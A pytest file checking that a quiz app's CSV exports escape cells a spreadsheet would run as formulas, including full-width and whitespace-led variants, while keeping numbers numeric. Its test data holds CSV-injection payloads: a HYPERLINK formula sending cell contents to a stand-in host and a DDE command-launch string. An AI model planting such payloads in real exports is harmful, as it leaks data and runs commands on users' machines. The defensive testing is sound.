"""CSV exports never hand a spreadsheet a formula.

The Team tables and a trainee's answers are downloaded through ``quiz.report.csv_export.csv_bytes``
(the one CSV writer: the pages call it, nothing else calls ``to_csv``). Text cells a
spreadsheet could run start with an apostrophe; numbers, negative ones too, stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import subprocess
import unicodedata
from pathlib import Path

import pandas as pd
import pytest

from quiz.db.frames import attempts_frame
from quiz.model.attempt import AttemptRecord
from quiz.report.csv_export import csv_bytes, runs_as_formula
from quiz.report.progress import attempts_in
from quiz.report.team_tables import overview_table

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # a leading space, which importers and people trim
    "\u3000=1+1",  # an ideographic (full-width) space
    "\n@SUM(1)",
    "＝HYPERLINK(\"http://evil.example\")",  # full-width equals sign
    "＋1", "－1", "＠SUM(1)",
)
HARMLESS = ("佐藤", "Alice", "a=b", "1-2", "'quoted", "")


def rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def first_visible(text: str) -> str:
    """What a spreadsheet sees first once leading whitespace is trimmed, in ASCII form."""
    trimmed = text.lstrip()
    return unicodedata.normalize("NFKC", trimmed[:1]) if trimmed else ""


def test_the_pages_write_csv_only_through_csv_bytes():
    found = subprocess.run(  # noqa: S603,S607 - git grep over our own sources
        ["git", "grep", "-n", "-e", "to_csv", "-e", "csv.writer", "--", "quiz", "app.py"],
        cwd=ROOT, capture_output=True, text=True, check=False,
    ).stdout.splitlines()
    assert [line.split(":")[0] for line in found] == ["quiz/report/csv_export.py"], found
    # every CSV download button of the app is the one in quiz/ui/tables.py, which writes
    # csv_bytes; another download (the assignments' completion PDF) names a mime type of its own
    buttons = subprocess.run(  # noqa: S603,S607 - git grep over our own sources
        ["git", "grep", "-l", "download_button(", "--", "quiz", "app.py"],
        cwd=ROOT, capture_output=True, text=True, check=False,
    ).stdout.split()
    assert "quiz/ui/tables.py" in buttons, buttons
    for other in (path for path in buttons if path != "quiz/ui/tables.py"):
        source = (ROOT / other).read_text()
        assert "csv" not in source.lower() and 'mime="application/pdf"' in source, other
    assert "data=lambda: csv_bytes(make())" in (ROOT / "quiz/ui/tables.py").read_text()


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_recognised(text):
    assert runs_as_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert not runs_as_formula(text)


def test_a_line_break_inside_a_cell_never_starts_a_row():
    frame = pd.DataFrame({"trainee": ["Aiko\r=1+1", "Ben\n@SUM(1)", "Chika\r\n-1+2"], "answered": [1, -2, 3]})
    data = csv_bytes(frame).decode("utf-8-sig")
    # Every line break a spreadsheet may split rows at ends a row; the others are inside quotes.
    assert data == 'trainee,answered\r\n"Aiko\r=1+1",1\r\n"Ben\n@SUM(1)",-2\r\n"Chika\r\n-1+2",3\r\n'
    assert rows(data.encode("utf-8-sig"))[1:] == [["Aiko\r=1+1", "1"], ["Ben\n@SUM(1)", "-2"], ["Chika\r\n-1+2", "3"]]


def test_team_table_of_hostile_names(tmp_path):
    names = [*HOSTILE, *HARMLESS]
    now = pd.Timestamp("2024-05-01 12:00", tz="UTC")
    overview = pd.DataFrame({
        "trainee": names,
        "answered": range(len(names)),
        "accuracy_recent": [0.5] * len(names),
        "answered_recent": [-1] * len(names),  # a negative count: a number, not a formula
        "accuracy": [float("nan")] + [0.25] * (len(names) - 1),
        "exams_passed": [0] * len(names),
        "weakest": [["yugioh-ocg/tardiness"]] * len(names),
        "last_active": [now] * len(names),
    })
    table = overview_table(overview, {"yugioh-ocg/tardiness": "-Tardiness"}, "UTC")
    table.columns = ["=Trainee", *table.columns[1:]]  # headers go through the same check
    header, *body = rows(csv_bytes(table))
    assert header[0] == "'=Trainee"
    for name, row in zip(names, body):
        cell = row[0]
        if first_visible(name) in ("=", "+", "-", "@") or name[:1] in ("\t", "\r"):
            assert cell == "'" + name, (name, cell)
        else:
            assert cell == name
        assert row[3] == "-1"  # numbers stay numbers
        assert row[6] == "'-Tardiness"
    assert body[0][0] == "'" + HYPERLINK


def test_progress_answers_of_hostile_text():
    base = AttemptRecord(
        trainee_id=1, card_id="late", ruleset="yugioh-ocg", category="tardiness", card_kind="scenario",
        chosen_infraction="tardiness", standard_infraction="tardiness", chosen_penalty="warning",
        standard_penalty="game_loss", correct=False, penalty_steps=-2, seconds=3.5,
        answered_at=dt.datetime(2024, 5, 1, tzinfo=dt.UTC),
    )
    records = [dataclasses.replace(base, card_id=text, chosen_penalty=text) for text in HOSTILE]
    frame = attempts_in(attempts_frame([{"id": n, **dataclasses.asdict(r)} for n, r in enumerate(records)]),
                        ["yugioh-ocg"])
    header, *body = rows(csv_bytes(frame))
    card, penalty, steps = header.index("card_id"), header.index("chosen_penalty"), header.index("penalty_steps")
    for text, row in zip(HOSTILE, body):
        assert row[card] == "'" + text and row[penalty] == "'" + text
        assert row[steps] == "-2"
    assert len(body) == len(HOSTILE)
